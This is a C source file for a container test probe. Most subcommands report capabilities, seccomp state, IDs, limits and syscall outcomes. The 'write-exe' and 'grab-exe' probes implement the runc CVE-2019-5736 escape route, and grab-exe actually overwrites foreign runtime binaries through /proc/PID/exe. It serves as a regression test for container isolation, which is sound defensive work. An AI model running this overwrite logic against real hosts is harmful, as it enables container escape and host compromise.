/* gk-probe: a static helper that tests copy into a container's rootfs to
 * report what the container sees, as plain lines on stdout.
 *
 *   gk-probe caps                 CapInh/CapPrm/CapEff/CapBnd/CapAmb as names
 *   gk-probe syscall NAME [ARG..] "ok" or "errno=EPERM" (raw syscall(2))
 *   gk-probe nnp | seccomp        NoNewPrivs (0/1), Seccomp mode (0/1/2)
 *   gk-probe fds                  "FD TARGET" per open fd
 *   gk-probe ids                  uid=, gid=, euid=, egid=, groups=, umask=
 *   gk-probe rlimit NOFILE        "SOFT HARD" ("unlimited" for infinity)
 *   gk-probe cwd | oom-score-adj
 *   gk-probe open PATH [r|w]      "ok" or "errno=..."
 *   gk-probe write-exe PID        opens /proc/PID/exe for writing: "ok" or "errno=..."
 *   gk-probe notify MESSAGE       sends MESSAGE to $NOTIFY_SOCKET: "ok" or "errno=..."
 *   gk-probe grab-exe SECONDS     tries to overwrite any foreign binary a process of
 *                                 the container runs: "grabbed PID"..., "wrote"/"no write"
 *   gk-probe observe [STATUS]     everything at once as one JSON document (observe.c),
 *                                 then exits STATUS
 *   gk-probe sched | ioprio | cpus | mempolicy | personality
 *                                 the process's attributes (procattr.c)
 *   gk-probe stat PATH | tree DIR owner, mode; a whole tree (tree.c)
 *   gk-probe snapshot             observe plus scheduling, I/O priority, memory policy,
 *                                 timens offsets, cgroupfs and sysctl files (snapshot.c)
 *
 * Adding a probe: write `static int p_NAME(int argc, char **argv)` and add a
 * line to `probes[]` (and, for a syscall, to `syscalls[]`).  libc only: it
 * is linked -static so it runs in any rootfs.  Exit status: 0 when the probe
 * ran (even if the syscall it tried failed), 2 on bad usage, 1 when the
 * probe itself could not look (e.g. /proc missing). */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE /* strerrorname_np, CLONE_NEW* */
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "probe.h"

/* Every probe has the table's signature; most ignore their arguments. */
#pragma GCC diagnostic ignored "-Wunused-parameter"

static int usage(const char *msg)
{
        fprintf(stderr, "gk-probe: %s\n", msg);
        return 2;
}

/* The probe itself could not look (e.g. /proc is not mounted). */
static int cannot(const char *what)
{
        fprintf(stderr, "gk-probe: cannot read %s: %s\n", what, strerror(errno));
        return 1;
}

/* "ok" or "errno=ENAME" of the last call; the probe's own exit is 0. */
static int report(long r, int err)
{
        puts(r >= 0 ? "ok" : errno_name(err));
        return 0;
}

static unsigned long num(const char *s, unsigned long dflt)
{
        return s ? strtoul(s, NULL, 0) : dflt;
}

/* --- caps --------------------------------------------------------------- */

static const char *const cap_names[] = {
        "CAP_CHOWN",
        "CAP_DAC_OVERRIDE",
        "CAP_DAC_READ_SEARCH",
        "CAP_FOWNER",
        "CAP_FSETID",
        "CAP_KILL",
        "CAP_SETGID",
        "CAP_SETUID",
        "CAP_SETPCAP",
        "CAP_LINUX_IMMUTABLE",
        "CAP_NET_BIND_SERVICE",
        "CAP_NET_BROADCAST",
        "CAP_NET_ADMIN",
        "CAP_NET_RAW",
        "CAP_IPC_LOCK",
        "CAP_IPC_OWNER",
        "CAP_SYS_MODULE",
        "CAP_SYS_RAWIO",
        "CAP_SYS_CHROOT",
        "CAP_SYS_PTRACE",
        "CAP_SYS_PACCT",
        "CAP_SYS_ADMIN",
        "CAP_SYS_BOOT",
        "CAP_SYS_NICE",
        "CAP_SYS_RESOURCE",
        "CAP_SYS_TIME",
        "CAP_SYS_TTY_CONFIG",
        "CAP_MKNOD",
        "CAP_LEASE",
        "CAP_AUDIT_WRITE",
        "CAP_AUDIT_CONTROL",
        "CAP_SETFCAP",
        "CAP_MAC_OVERRIDE",
        "CAP_MAC_ADMIN",
        "CAP_SYSLOG",
        "CAP_WAKE_ALARM",
        "CAP_BLOCK_SUSPEND",
        "CAP_AUDIT_READ",
        "CAP_PERFMON",
        "CAP_BPF",
        "CAP_CHECKPOINT_RESTORE",
};

/* The value of "KEY:\t..." in /proc/self/status, or NULL. */
static char *status_field(const char *key, char *buf, size_t size)
{
        FILE *f = fopen("/proc/self/status", "re");
        size_t klen = strlen(key);
        char *val = NULL;

        if (!f)
                return NULL;
        while (fgets(buf, (int) size, f))
                if (!strncmp(buf, key, klen) && buf[klen] == ':') {
                        val = buf + klen + 1;
                        val += strspn(val, " \t");
                        val[strcspn(val, "\n")] = '\0';
                        break;
                }
        fclose(f);
        return val;
}

static int p_caps(int argc, char **argv)
{
        static const char *const sets[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb" };

        for (size_t s = 0; s < N(sets); s++) {
                char buf[256];
                char *hex = status_field(sets[s], buf, sizeof(buf));
                unsigned long long mask;

                if (!hex)
                        return cannot("/proc/self/status");
                mask = strtoull(hex, NULL, 16);
                printf("%s:", sets[s]);
                for (unsigned i = 0; i < 64; i++)
                        if (mask & (1ULL << i)) {
                                if (i < N(cap_names))
                                        printf(" %s", cap_names[i]);
                                else
                                        printf(" CAP_%u", i);
                        }
                putchar('\n');
        }
        return 0;
}

/* --- syscall ------------------------------------------------------------ */

static long sc_getpid(char **a)
{
        return syscall(SYS_getpid);
}

static long sc_mkdir(char **a)
{
        char path[64];
        long r;

        if (a[0])
                return syscall(SYS_mkdir, a[0], 0755);
        snprintf(path, sizeof(path), "/tmp/gk-probe.%d", (int) getpid());
        r = syscall(SYS_mkdir, path, 0755);
        if (r == 0)
                rmdir(path);
        return r;
}

static long sc_chmod(char **a)
{
        return syscall(SYS_chmod, a[0] ? a[0] : "/tmp", (mode_t) num(a[0] ? a[1] : NULL, 01777));
}

static long sc_personality(char **a)
{
        return syscall(SYS_personality, num(a[0], 0xffffffffUL));
}

static const struct {
        const char *name;
        int flag;
} ns_flags[] = {
        { "user", CLONE_NEWUSER },     { "net", CLONE_NEWNET },
        { "mount", CLONE_NEWNS },      { "uts", CLONE_NEWUTS },
        { "ipc", CLONE_NEWIPC },       { "pid", CLONE_NEWPID },
        { "cgroup", CLONE_NEWCGROUP }, { "time", 0x80 /* CLONE_NEWTIME */ },
};

static long sc_unshare(char **a)
{
        unsigned long flags = CLONE_NEWUTS;

        if (a[0]) {
                flags = num(a[0], 0);
                for (size_t i = 0; i < N(ns_flags); i++)
                        if (!strcmp(a[0], ns_flags[i].name))
                                flags = (unsigned long) ns_flags[i].flag;
        }
        return syscall(SYS_unshare, flags);
}

static long sc_mount(char **a)
{
        const char *target = a[0] ? a[0] : "/tmp";
        long r = syscall(SYS_mount, "gk-probe", target, a[0] && a[1] ? a[1] : "tmpfs", 0UL, NULL);

        if (r == 0)
                umount2(target, MNT_DETACH);
        return r;
}

static long sc_keyctl(char **a)
{
        return syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
}

static long sc_ptrace(char **a)
{
        return syscall(SYS_ptrace, PTRACE_TRACEME, 0, 0, 0);
}

static const struct {
        const char *name;
        int value;
} families[] = {
        { "AF_UNIX", AF_UNIX },       { "AF_INET", AF_INET },     { "AF_INET6", AF_INET6 },
        { "AF_NETLINK", AF_NETLINK }, { "AF_PACKET", AF_PACKET },
};

static long sc_socket(char **a)
{
        int family = AF_INET;
        long r;

        if (a[0]) {
                family = (int) num(a[0], 0);
                for (size_t i = 0; i < N(families); i++)
                        if (!strcmp(a[0], families[i].name))
                                family = families[i].value;
        }
        r = syscall(SYS_socket, family, a[0] && a[1] ? (int) num(a[1], 0) : SOCK_STREAM, 0);
        if (r >= 0)
                close((int) r);
        return r;
}

static long sc_chdir(char **a)
{
        return syscall(SYS_chdir, a[0] ? a[0] : "/");
}

static const struct {
        const char *name;
        long (*call)(char **args);
} syscalls[] = {
        { "getpid", sc_getpid },   { "mkdir", sc_mkdir },
        { "chmod", sc_chmod },     { "personality", sc_personality },
        { "unshare", sc_unshare }, { "mount", sc_mount },
        { "keyctl", sc_keyctl },   { "ptrace", sc_ptrace },
        { "socket", sc_socket },   { "chdir", sc_chdir },
};

static int p_syscall(int argc, char **argv)
{
        for (size_t i = 0; i < N(syscalls); i++)
                if (!strcmp(argv[0], syscalls[i].name)) {
                        long r;

                        errno = 0;
                        r = syscalls[i].call(argv + 1);
                        return report(r, errno);
                }
        return usage("syscall: unknown syscall name");
}

/* --- process state ------------------------------------------------------ */

static int p_nnp(int argc, char **argv)
{
        printf("%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
        return 0;
}

static int p_seccomp(int argc, char **argv)
{
        char buf[256];
        char *mode = status_field("Seccomp", buf, sizeof(buf));

        if (!mode)
                return cannot("/proc/self/status");
        puts(mode);
        return 0;
}

static int p_fds(int argc, char **argv)
{
        DIR *d = opendir("/proc/self/fd");
        char target[PATH_MAX];
        const char *fd;

        if (!d)
                return cannot("/proc/self/fd");
        while (probe_fd_next(d, &fd, target, sizeof(target)))
                printf("%s %s\n", fd, target);
        closedir(d);
        return 0;
}

static int p_ids(int argc, char **argv)
{
        struct probe_ids ids;

        probe_ids(&ids);
        printf("uid=%u\ngid=%u\neuid=%u\negid=%u\ngroups=", (unsigned) ids.uid, (unsigned) ids.gid,
               (unsigned) ids.euid, (unsigned) ids.egid);
        for (int i = 0; i < ids.ngroups; i++)
                printf("%s%u", i ? "," : "", (unsigned) ids.groups[i]);
        printf("\numask=%04o\n", (unsigned) ids.umask);
        return 0;
}

static void print_limit(rlim_t v, char end)
{
        if (v == RLIM_INFINITY)
                printf("unlimited%c", end);
        else
                printf("%llu%c", (unsigned long long) v, end);
}

static int p_rlimit(int argc, char **argv)
{
        const char *name = argv[0];
        struct rlimit rl;

        if (!strncmp(name, "RLIMIT_", 7))
                name += 7;
        for (size_t i = 0; i < probe_nrlimits; i++)
                if (!strcmp(name, probe_rlimits[i].name)) {
                        if (getrlimit(probe_rlimits[i].resource, &rl) < 0)
                                return report(-1, errno);
                        print_limit(rl.rlim_cur, ' ');
                        print_limit(rl.rlim_max, '\n');
                        return 0;
                }
        return usage("rlimit: unknown resource");
}

static int p_cwd(int argc, char **argv)
{
        char buf[PATH_MAX];

        if (!getcwd(buf, sizeof(buf)))
                return report(-1, errno);
        puts(buf);
        return 0;
}

static int p_open(int argc, char **argv)
{
        int flags = argc > 1 && argv[1][0] == 'w' ? O_WRONLY : O_RDONLY;
        int fd = open(argv[0], flags | O_CLOEXEC);
        int err = errno;

        if (fd >= 0)
                close(fd);
        return report(fd, err);
}

/* The runc CVE-2019-5736 route: overwrite the runtime through /proc/PID/exe. */
static int p_write_exe(int argc, char **argv)
{
        char path[64];
        int fd, err;

        snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        err = errno;
        if (fd >= 0)
                close(fd);
        return report(fd, err);
}

/* CVE-2019-5736's attacker: for SECONDS, holds an O_PATH fd on the exe of
 * every process whose binary is foreign to the container (not this probe,
 * not /bin/busybox), and keeps trying to reopen each one for writing (it
 * fails with ETXTBSY while the binary runs) and write over its start.
 * Prints "grabbed" per foreign binary, and "wrote" when a write went in. */
static int p_grab_exe(int argc, char **argv)
{
        struct stat self, bb, st;
        int fds[64], n = 0, wrote = 0;
        time_t end = time(NULL) + atoi(argv[0]);

        if (stat("/proc/self/exe", &self) < 0)
                return cannot("/proc/self/exe");
        if (stat("/bin/busybox", &bb) < 0)
                bb = self;
        while (time(NULL) < end && !wrote) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                if (!d)
                        return cannot("/proc");
                while ((de = readdir(d)) && n < (int) N(fds)) {
                        char path[300];
                        int fd, known = 0;

                        if (de->d_name[0] < '1' || de->d_name[0] > '9')
                                continue;
                        snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
                        fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0 || fstat(fd, &st) < 0) {
                                if (fd >= 0)
                                        close(fd);
                                continue;
                        }
                        known = (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino);
                        for (int i = 0; i < n && !known; i++) {
                                struct stat o;

                                known = fstat(fds[i], &o) == 0 && o.st_dev == st.st_dev &&
                                        o.st_ino == st.st_ino;
                        }
                        if (known) {
                                close(fd);
                                continue;
                        }
                        printf("grabbed %s\n", de->d_name);
                        fflush(stdout);
                        fds[n++] = fd;
                }
                closedir(d);
                for (int i = 0; i < n && !wrote; i++) {
                        char path[64];
                        int w;

                        snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
                        w = open(path, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                wrote = pwrite(w, "GK-PWNED", 8, 0) == 8;
                                close(w);
                        }
                }
        }
        puts(wrote ? "wrote" : "no write");
        return 0;
}

static int p_oom_score_adj(int argc, char **argv)
{
        char buf[32] = "";
        int fd = open("/proc/self/oom_score_adj", O_RDONLY | O_CLOEXEC);
        ssize_t n;

        if (fd < 0)
                return cannot("/proc/self/oom_score_adj");
        n = read(fd, buf, sizeof(buf) - 1);
        close(fd);
        buf[n < 0 ? 0 : n] = '\0';
        buf[strcspn(buf, "\n")] = '\0';
        puts(buf);
        return 0;
}

/* sd_notify: one datagram with MESSAGE to $NOTIFY_SOCKET, as libsystemd's
 * sd_notify() sends it. */
static int p_notify(int argc, char **argv)
{
        const char *path = getenv("NOTIFY_SOCKET");
        struct sockaddr_un sa = { .sun_family = AF_UNIX };
        int fd, err;
        long r;

        if (!path || !*path || strlen(path) >= sizeof(sa.sun_path))
                return usage("NOTIFY_SOCKET is not set (or too long)");
        memcpy(sa.sun_path, path, strlen(path));
        if (sa.sun_path[0] == '@')
                sa.sun_path[0] = '\0';
        fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (fd < 0)
                return cannot("socket");
        r = sendto(fd, argv[0], strlen(argv[0]), 0, (struct sockaddr *) &sa,
                   offsetof(struct sockaddr_un, sun_path) + strlen(path));
        err = errno;
        close(fd);
        return report(r < 0 ? -1 : 0, err);
}

/* --- dispatch ----------------------------------------------------------- */

static const struct {
        const char *name;
        int min_args;
        int (*run)(int argc, char **argv);
} probes[] = {
        { "caps", 0, p_caps },
        { "syscall", 1, p_syscall },
        { "nnp", 0, p_nnp },
        { "seccomp", 0, p_seccomp },
        { "fds", 0, p_fds },
        { "ids", 0, p_ids },
        { "rlimit", 1, p_rlimit },
        { "cwd", 0, p_cwd },
        { "open", 1, p_open },
        { "write-exe", 1, p_write_exe },
        { "oom-score-adj", 0, p_oom_score_adj },
        { "notify", 1, p_notify },
        { "grab-exe", 1, p_grab_exe },
        { "observe", 0, p_observe },
        { "sched", 0, p_sched },
        { "ioprio", 0, p_ioprio },
        { "cpus", 0, p_cpus },
        { "mempolicy", 0, p_mempolicy },
        { "personality", 0, p_personality },
        { "stat", 1, p_stat },
        { "tree", 1, p_tree },
        { "snapshot", 0, p_snapshot },
};

int main(int argc, char **argv)
{
        int r;

        if (argc < 2) {
                fputs("usage: gk-probe PROBE [ARGS]; probes:", stderr);
                for (size_t i = 0; i < N(probes); i++)
                        fprintf(stderr, " %s", probes[i].name);
                fputc('\n', stderr);
                return 2;
        }
        for (size_t i = 0; i < N(probes); i++) {
                if (strcmp(argv[1], probes[i].name) != 0)
                        continue;
                if (argc - 2 < probes[i].min_args)
                        return usage("missing argument");
                r = probes[i].run(argc - 2, argv + 2);
                fflush(stdout);
                return r;
        }
        return usage("unknown probe");
}
